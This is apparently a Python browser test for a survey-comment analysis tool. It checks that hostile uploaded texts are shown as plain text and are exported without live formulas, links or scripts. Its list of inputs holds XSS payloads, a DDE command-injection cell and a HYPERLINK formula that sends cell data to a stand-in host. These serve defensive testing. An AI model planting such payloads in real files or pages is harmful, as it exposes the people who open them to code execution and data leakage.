"""Texts that try to be code, a page, a formula or unreadable: they are shown as text and given out as text."""

from __future__ import annotations

import json
import re
from collections.abc import Collection
from urllib.parse import urlencode

import polars as pl
import pytest

from tests.browser.conftest import Explorer
from tests.browser.files import cells, everything, sheets
from tests.browser.texts import texts

pytestmark = [pytest.mark.slow, pytest.mark.allow_hosts(["127.0.0.1", "localhost"])]

_LINK = '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"my receipt") the refund never came'
_HOSTILE = (
    "<script>alert(1)</script> they never answer my letters",
    '"><img src=x onerror=alert(2)> lovely people, see you on Friday',
    "=1+1",
    "[click](javascript:alert(3)) $x^2$ :material/home: **bold** `code`",
    "<a href='http://elsewhere.invalid/a'>here</a> ![picture](http://elsewhere.invalid/p.png) is my usual table",
    "\u202eمرحبا بكم في المقهى שלום לכולם\u202c and good coffee",
    "an\u200b invi\u200dsible\ufeff gap in a fair price and quick service",
    "a torn sign \ud83d in the middle, and still no answer from you",
    _LINK,
    "+44 7700 900123 is where you never called me back",
    "@SUM(A1:A9) good value and quick",
    "-2+3+cmd|' /C calc'!A0",
    "understanding communication " * 37_500,
)
_PAGES = (
    "Overview",
    "Verbatims",
    "Map",
    "Compare",
    "Trends",
    "Journeys",
    "Drivers",
    "Mismatch",
    "Review",
    "Report",
    "Method",
)
_CODE = '[data-testid="stMain"] :is(script, img[src="x"], img[src*="elsewhere"], a[href*="elsewhere"], .rt-text a)'
_REFERENCE = re.compile(r"'(?:[^']|'')+'![$]?[A-Z]+[$]?[0-9]+")
_CHARTS = {"=", "=IF(COUNT(,)=2,-,0)"}
"""The formulas by which charts of a report follow its tables, without what they refer to."""
_N = len(_HOSTILE) + 60


def _export() -> bytes:
    """Return the texts as JSON lines, in which a lone surrogate can be written."""
    rows = [*_HOSTILE, *texts(60)]
    assert len(rows) == _N
    made = [
        {
            "comment": text,
            "<b>store</b>": ("<i>North</i>", "=2+2")[k % 2],
            "=1+1": ("+one", "two")[k % 2],
            "date": f"2025-0{k % 6 + 1}-11",
        }
        for k, text in enumerate(rows)
    ]
    return "\n".join(map(json.dumps, made)).encode()


def test_hostile_texts_are_shown_as_text(explorer: Explorer) -> None:
    explorer.open()
    explorer.upload("<b>hostile & co.jsonl", _export())
    explorer.see("texts of the column")
    explorer.press("Tag the texts", exact=False)
    explorer.see(" rows are tagged.", patience=180_000)
    for name in _PAGES:
        explorer.go(name)
        assert explorer.tab.locator(_CODE).count() == 0, name
        if name == "Verbatims":
            explorer.see("<script>alert(1)</script> they never answer")
            explorer.see('"><img src=x onerror=alert(2)>')
            explorer.see("[click](javascript:alert(3)) $x^2$")
            explorer.see("is my usual table")
            explorer.tab.get_by_text("Show originals").click()  # addresses of pages are masked otherwise
            explorer.see("<a href='http://elsewhere.invalid/a'>here</a> ![picture]")
            explorer.see('=HYPERLINK("http://elsewhere.invalid/')
            explorer.settle()
            assert explorer.tab.locator(_CODE).count() == 0
            explorer.tab.locator(".rt-text").get_by_text("=1+1", exact=True).or_(
                explorer.tab.locator(".rt-text", has_text=re.compile(r"^=1\+1$"))
            ).first.wait_for()
            assert explorer.tab.locator('.rt-text[dir="auto"]', has_text="and good coffee").count() == 1
    explorer.open(f"/verbatims?project=b-hostile-co&lang=fr&text={len(_HOSTILE) - 1}")
    explorer.see("premiers caractères sont affichés")
    _give_out_as_text(explorer)


def _give_out_as_text(explorer: Explorer) -> None:
    explorer.open("/report?project=b-hostile-co")
    for name in ("XLSX", "PPTX", "DOCX"):
        explorer.press(name)
    explorer.press("Make the report")
    explorer.see("The report is ready", patience=120_000)
    _, page = explorer.download("Download HTML")
    assert b"<script>alert" not in page and b"<img src=x" not in page and b'href="http://elsewhere' not in page
    for name in ("PPTX", "DOCX", "XLSX"):
        _, content = explorer.download(f"Download {name}")
        if name == "XLSX":
            _has_no_formula(content, _CHARTS)
        else:  # a relation to elsewhere would be followed on opening or on a click
            assert 'Target="http://elsewhere' not in everything(content)
    explorer.tab.get_by_role("tab", name="The texts and their tags").click()
    explorer.press("Prepare CSV")
    explorer.settle()
    _, exported = explorer.download("Download b-hostile-co.csv")
    frame = pl.read_csv(exported, has_header=False, infer_schema=False)  # the names of columns are cells too
    written = {cell for column in frame for cell in column if cell}
    runnable = {cell for cell in written if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
    assert {cell for cell in runnable if not re.fullmatch(r"-[0-9.]+(?:e-?[0-9]+)?", cell)} == set()
    assert {"'=1+1", "'=2+2", "'+one"} <= written
    explorer.press("Prepare Excel")
    explorer.see("32,767")  # characters of a cell: the long text is refused, not cut
    link = urlencode({"project": "b-hostile-co", "filter": json.dumps({"search": "1+1"})})
    explorer.open(f"/report?{link}")
    explorer.tab.get_by_role("tab", name="The texts and their tags").click()
    explorer.press("Prepare Excel")
    explorer.settle()
    _, exported = explorer.download("Download b-hostile-co.xlsx")
    _has_no_formula(exported)
    assert {"=1+1"} <= {cell.value for cell in cells(exported)}


def _has_no_formula(workbook: bytes, own: Collection[str] = ()) -> None:
    formulas = {_REFERENCE.sub("", str(cell.value)) for cell in cells(workbook) if cell.data_type == "f"}
    assert formulas <= set(own)
    links = [cell.hyperlink for cell in cells(workbook) if cell.hyperlink is not None and cell.hyperlink.target]
    assert links == [] and sheets(workbook).sheetnames
